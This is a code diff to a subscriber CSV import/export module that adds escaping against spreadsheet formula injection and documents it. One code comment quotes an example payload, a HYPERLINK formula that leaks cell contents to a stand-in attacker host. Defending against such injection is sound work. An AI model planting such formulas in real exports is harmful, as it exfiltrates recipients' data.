@@ -9,6 +9,10 @@ Our own format is what ``newsletter subscribers export`` writes::
 
     email,name,status,status_reason,created_at,confirmed_at,status_changed_at,attributes
 
+A value starting with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or ``'`` is written with
+a ``'`` before it, which a spreadsheet takes as "this is text, not a formula"; reading our format
+takes one leading ``'`` off every value, so an export imports back exactly.
+
 Only ``email`` is required (also accepted as ``Email Address``, ``E-mail`` or ``E-mail Address``,
 the spellings of spreadsheets and form tools); ``attributes`` is a JSON object, and any other
 column becomes an attribute of that name.
@@ -54,6 +58,22 @@ class ParsedRow(NamedTuple):
 
 
 RowMapper = Callable[[Sequence[str]], ParsedRow]
+
+# A cell starting with one of these is a formula to a spreadsheet (OWASP, "CSV Injection"):
+# ``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` in a name would send the sheet away.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_CELL_ESCAPE = "'"
+
+
+def escape_cell(text: str) -> str:
+    """A value as our export writes it: prefixed with ``'`` when it starts like a formula, or
+    with a ``'`` of its own (so that ``unescape_cell`` can undo exactly this and nothing more)."""
+    return _CELL_ESCAPE + text if text.startswith(_FORMULA_STARTS + (_CELL_ESCAPE,)) else text
+
+
+def unescape_cell(text: str) -> str:
+    """The value ``escape_cell`` was given: export then import is the identity."""
+    return text[1:] if text.startswith(_CELL_ESCAPE) else text
 
 
 def parse_time(text: str, column: str) -> datetime | None:
@@ -156,6 +176,7 @@ def _ours(header: Sequence[str], positions: dict[str, int]) -> RowMapper:
     times = "created_at" in positions or "confirmed_at" in positions or "status_changed_at" in positions
 
     def row(fields: Sequence[str]) -> ParsedRow:
+        fields = [unescape_cell(field) for field in fields]
         given = status(fields).strip().lower() or "active"
         if given not in SUBSCRIBER_STATUSES:
             raise ValueError(f"status: {given!r} is not one of {', '.join(SUBSCRIBER_STATUSES)}")
